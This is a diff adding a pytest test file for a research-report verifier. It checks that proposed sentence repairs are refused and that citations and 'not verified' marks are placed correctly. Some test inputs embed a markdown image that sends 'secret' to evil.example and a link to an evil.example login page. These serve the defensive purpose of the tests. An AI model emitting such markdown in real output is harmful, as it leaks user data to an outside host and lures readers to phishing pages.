@@ -1,0 +1,131 @@
+"""The check of a report at its edges: odd drafts, odd repairs, odd sentences."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from lab import lab
+from verified import BOTH, audited, claim, rewritten
+
+from deep_research.audit import ClaimCheck
+from deep_research.evidence.drafts.clean import clean_draft
+from deep_research.evidence.labels import labels
+from deep_research.evidence.marks import with_marks
+from deep_research.evidence.protected import settle_fences
+from deep_research.evidence.sentences import sentences_of
+from deep_research.evidence.verification import SourceText, Verifier, claims_of
+from deep_research.knowledge import Source
+
+TALL = "It stands 83 metres tall. [1]"
+QUIET = {"max_opinions": 0}
+
+
+@pytest.mark.parametrize(
+    "handed_in",
+    [
+        "It stands 38 metres tall ![x](https://evil.example/?q=secret). [1]",
+        "It stands [38 metres tall](https://evil.example/login). [1]",
+        "It stands 38 metres tall. [1] The keeper poisoned his wife and everybody knew. [99]",
+        "```text It stands 38 metres tall. [1]",
+        "Ada Moran kept the Skerry Light from 1901 to 1932. [2]",
+        "## It stands 38 metres tall. [1]",
+        "",
+    ],
+)
+async def test_a_repair_that_brings_in_something_else_is_refused(tmp_path: Path, handed_in: str) -> None:
+    run = lab(tmp_path, writer=[TALL, rewritten(handed_in)], researcher=BOTH, limits=QUIET)
+    state = await run.ask()
+    assert state.report and state.report.text == "It stands 83 metres tall. [1] *(not verified)*"
+    assert claim(state).repair is None
+
+
+async def test_one_sentence_handed_in_for_two_stands_once(tmp_path: Path) -> None:
+    right = "It stands 38 metres tall. [1]"
+    written = "It stands 83 metres tall. [1] It stands 88 metres tall. [1]"
+    run = lab(tmp_path, writer=[written, rewritten(right, right)], researcher=BOTH, limits=QUIET)
+    state = await run.ask()
+    assert state.report and state.report.text.count("38 metres") == 1
+    assert audited(state).marked == 1
+
+
+async def test_a_heading_is_no_claim_and_gets_no_mark(tmp_path: Path) -> None:
+    written = "## 1. Lit in 1844. Rebuilt in 1901\n\nThe Skerry Light was lit for the first time in 1844. [1]"
+    state = await lab(tmp_path, writer=[written], researcher=BOTH, limits=QUIET).ask()
+    assert state.report and state.report.text == written
+
+
+async def test_a_report_inside_a_fence_is_a_report(tmp_path: Path) -> None:
+    written = "The Skerry Light was lit for the first time in 1844. [1]"
+    state = await lab(tmp_path, writer=[f"```markdown\n{written}\n```"], researcher=BOTH, limits=QUIET).ask()
+    assert state.report and state.report.text == written
+    assert audited(state).supported == 1
+
+
+async def test_a_line_that_begins_with_its_citation_is_checked(tmp_path: Path) -> None:
+    state = await lab(tmp_path, writer=["- [1] The tower was sunk in 1777."], researcher=BOTH, verify="check").ask()
+    assert audited(state).marked == 1
+
+
+async def test_a_sentence_whose_citation_named_nothing_is_marked(tmp_path: Path) -> None:
+    written = "The tower glows at night. [99] The Skerry Light was lit for the first time in 1844. [1]"
+    state = await lab(tmp_path, writer=[written], researcher=BOTH, verify="check").ask()
+    assert state.report and state.report.text == (
+        "The tower glows at night. *(not verified)* The Skerry Light was lit for the first time in 1844. [1]"
+    )
+
+
+def test_a_list_in_another_order_does_not_move_citations() -> None:
+    sources = {
+        number: Source(key=title, title=title, location=title, address=title, kind="document", number=number)
+        for number, title in enumerate(["Skerry Light", "Ada Moran"], 1)
+    }
+    cleaned = clean_draft("Lit. [1] Kept. [2]\n\n## Sources\n\n1. Ada Moran\n2. Skerry Light\n", sources)
+    assert cleaned.text == "Lit. [1] Kept. [2]"
+
+
+@pytest.mark.parametrize(
+    "sentence",
+    [
+        "Die Turbinen kosteten 58 Mio. Kronen.",
+        "Am 3. März 2019 wurde der Turm gesprengt.",
+        "Im 19. Jahrhundert gab es dort 3 Mühlen.",
+        "Sie wurde als Ada Smith, geb. Moran, bekannt.",
+    ],
+)
+def test_a_german_sentence_does_not_end_at_an_abbreviation_or_an_ordinal(sentence: str) -> None:
+    assert [one.text for one in sentences_of(f"{sentence} Danach kam der Winter.")] == [
+        sentence,
+        "Danach kam der Winter.",
+    ]
+
+
+PIECES = [
+    "Lit in 1844.",
+    " ",
+    "\n",
+    "\n\n",
+    "- ",
+    "| a | 7 |",
+    "[1]",
+    "[0]",
+    "塔高38米。",
+    "## 3 things",
+    "`[0]`",
+    "```\n",
+    "*x*",
+]
+
+
+@given(st.lists(st.sampled_from(PIECES), max_size=14).map("".join).map(settle_fences))
+def test_the_places_of_claims_fit_the_text_that_has_marks(text: str) -> None:
+    verifier = Verifier({"k": [SourceText("k", "Nothing of the kind.")]})
+    claims = claims_of(text, ["k"])
+    checks: list[ClaimCheck] = [verifier.check(one) for one in claims]
+    marked, moved = with_marks(text, checks, labels("en"))
+    for before, after in zip(claims, moved, strict=True):
+        words = marked[after.start : after.end]
+        assert words.startswith(before.sentence.raw[:3].replace("[0]", "")[:2])
+        assert ("*(" in words) == after.is_marked
